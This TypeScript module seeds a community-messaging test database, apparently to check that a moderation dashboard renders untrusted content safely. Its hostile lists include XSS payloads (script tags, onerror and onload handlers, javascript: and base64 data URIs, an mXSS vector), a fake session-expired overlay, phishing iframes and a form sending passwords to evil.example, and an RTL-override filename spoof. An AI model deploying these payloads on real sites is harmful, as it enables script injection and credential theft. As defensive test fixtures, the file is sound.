import type { Prng } from './prng';

// Word lists for a community that looks real enough to triage, plus the hostile content a moderation
// dashboard must render safely. Seeded rows are stored raw: the plugin's send filter did not always
// exist, imports bypass it, and other plugins write to the same tables.

export const FIRST_NAMES = [
  'Olivia',
  'Liam',
  'Emma',
  'Noah',
  'Ava',
  'Mateo',
  'Sofia',
  'Lucas',
  'Mia',
  'Ethan',
  'Amara',
  'Yusuf',
  'Chloé',
  'Jonas',
  'Priya',
  'Kenji',
  'Fatima',
  'Diego',
  'Ingrid',
  'Tariq',
  'Zoë',
  'Björn',
  'Aiko',
  'Omar',
  'Léa',
  'Nikolai',
  'Wei',
  'Ananya',
  'Siobhan',
  'Kwame',
  'Rosa',
  'Hamid',
  'Elif',
  'Tomás',
  'Hana',
  'Pavel',
];

export const LAST_NAMES = [
  'Smith',
  'García',
  'Müller',
  'Rossi',
  'Nakamura',
  'Okafor',
  'Kowalski',
  'Dubois',
  'Silva',
  'Johansson',
  'Khan',
  'Nguyen',
  'Petrov',
  'O’Brien',
  'Haddad',
  'Fernández',
  'Schmidt',
  'Yılmaz',
  'Andersen',
  'Mensah',
];

const WORDS = (
  'the order shipping refund account password login page update photo event meetup group chat room ' +
  'tomorrow today weekend price discount link forum plugin theme member profile message reply question ' +
  'answer problem issue thanks please help quick great sure maybe later again soon coffee project team ' +
  'design bug release invoice ticket course lesson homework garden recipe match game travel flight hotel'
).split(' ');

const OPENERS = [
  'Hi!',
  'Hey there,',
  'Hello everyone',
  'Quick question:',
  'Thanks for the help',
  'Good morning',
  'Did you see',
  'Just a reminder',
  'Sorry for the delay',
  'Any update on',
  'I think',
  'Can someone check',
];

const FORMATTED = [
  'Meeting moved to <b>Thursday</b>.',
  'That is <i>exactly</i> what I meant.',
  'Line one<br>line two<br>line three',
  '<strong>Important:</strong> read the <u>rules</u> first.',
  'H<sub>2</sub>O and E = mc<sup>2</sup>',
  '<p>Paragraph one.</p><p>Paragraph two.</p>',
  'Link: <a href="https://example.org/docs">docs</a>',
];

const HOSTILE = [
  'Look at this <script>alert("xss-script")</script> cool trick',
  'nice pic <img src=x onerror="alert(\'xss-img\')">',
  '<a href="javascript:alert(\'xss-link\')">click for a prize</a>',
  '<svg onload="alert(\'xss-svg\')"><circle r="10"/></svg>',
  '<svg><script>alert("svg-script")</script></svg>',
  '<iframe src="https://evil.example/phish"></iframe> login here',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Session expired, re-enter password</div>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
  '"><script>alert(document.domain)</script>',
  '<form action="https://evil.example/steal"><input name="password" placeholder="password"></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")>',
  '<b onmouseover="alert(\'hover\')">hover me</b>',
];

const ODD_UNICODE = [
  'مرحبا بكم في المنتدى — welcome in Arabic (RTL)',
  '\u202Egnp.exe\u202C looks like a png',
  'Z̷̢̛̞̦̈́̓a̸̧̛̘̓l̵̡̛̝̈g̷̨̛̺̓ő̶̧̬ text is here',
  'Emoji storm 🎉🔥💬👍🏽👩‍👩‍👧‍👦🏳️‍🌈🇺🇦',
  'שלום! mixed עברית and English',
  'Zero\u200Bwidth\u200Bjoiners\u200Beverywhere',
  '𝕱𝖆𝖓𝖈𝖞 𝖒𝖆𝖙𝖍 𝖑𝖊𝖙𝖙𝖊𝖗𝖘',
  'Null-ish \u0000 and control \u0007 chars',
];

export const REPORT_CATEGORIES = ['inappropriate', 'spam', 'harassment', 'offensive', 'other'] as const;

export const REPORT_DESCRIPTIONS = [
  'This is spam, they sent it to everyone.',
  'Rude and insulting.',
  'Keeps messaging me after I asked them to stop.',
  '',
  'Contains a suspicious link <b>please check</b>',
  'Scam: asks for my password.',
  '<script>alert("report-xss")</script>',
];

export const REACTIONS = ['1f914', '2b50', '1f632', '1f60d', '1f44c', '1f44d'];

function sentence(rng: Prng): string {
  const n = rng.int(3, 14);
  const words: string[] = [];
  for (let i = 0; i < n; i++) words.push(rng.pick(WORDS));
  return `${rng.pick(OPENERS)} ${words.join(' ')}${rng.pick(['.', '?', '!', '...', ''])}`;
}

/** One message body, mostly ordinary text, with a small share of formatting, hostile or odd content. */
export function messageBody(rng: Prng): { body: string; hostile: boolean } {
  const r = rng.next();
  if (r < 0.015) return { body: rng.pick(HOSTILE), hostile: true };
  if (r < 0.03) return { body: rng.pick(ODD_UNICODE), hostile: false };
  if (r < 0.08) return { body: rng.pick(FORMATTED), hostile: false };
  if (r < 0.2) return { body: `${sentence(rng)}\n${sentence(rng)}`, hostile: false };
  return { body: sentence(rng), hostile: false };
}

/** A ~100 KB message: the admin viewer and the sync worker must cope with it. */
export function hugeBody(rng: Prng): string {
  const parts: string[] = [];
  let size = 0;
  while (size < 100_000) {
    const s = sentence(rng);
    parts.push(s);
    size += s.length + 1;
  }
  return parts.join(' ');
}

export const THREAD_SUBJECTS = [
  'Order question',
  'Weekend meetup',
  'Project kickoff',
  'Refund request',
  'Welcome!',
  'Study group',
  'Bug report',
  'Photo swap',
  'Trip planning',
  '',
  '',
  '',
  'Re: your listing',
  'Quick favour',
  '<img src=x onerror=alert("subject")>',
  'Ünïcödé sübject ✨',
];

export const ROOM_NAMES = [
  'Lobby',
  'Help desk',
  'Off-topic',
  'Announcements',
  'Marketplace',
  'Gaming',
  'Book club',
];
